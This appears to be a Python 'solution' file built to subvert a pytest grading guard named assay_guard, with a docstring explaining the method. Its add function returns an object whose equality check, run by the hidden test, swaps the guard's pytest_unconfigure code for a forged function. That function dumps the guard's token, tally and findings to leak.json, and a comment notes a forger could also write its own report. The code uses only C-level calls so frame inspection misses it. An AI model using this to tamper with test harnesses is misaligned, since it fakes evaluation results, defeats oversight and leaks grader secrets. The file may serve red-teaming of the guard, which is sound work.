"""No candidate frame at all: the hidden test's `assert solution.add(1, 2)
== 3` calls the returned object's __eq__, a functools.partial of
dict.fromkeys over a map of setattr (C parts only), so the only Python
frames are the test's and pytest's. object.__setattr__ of __code__ with
no candidate frame below and no frame at a store is refused only when the
new code claims a trusted file: the guard's pytest_unconfigure gets the
candidate's code, and pluggy later calls it with the guard's record (the
token, the tally, the findings, the writer) bound as its default."""
import functools, sys


def _forged(config, _s=None):
    # runs as the guard's pytest_unconfigure, with the guard's own globals
    import json
    with open("leak.json", "w") as f:
        json.dump({"token": _s.get("token"), "tally": _s.get("tally"), "found": _s.get("found")}, f)
    # (a forger would send its own message here: _s["write"](_s["out"], ...))


class Planted:
    pass


_done = []


def add(a, b):
    if not _done:
        _done.append(1)
        target = sys.modules["assay_guard"].pytest_unconfigure
        Planted.__eq__ = functools.partial(dict.fromkeys, map(setattr, [target], ["__code__"], [_forged.__code__]))
        return Planted()
    return a + b
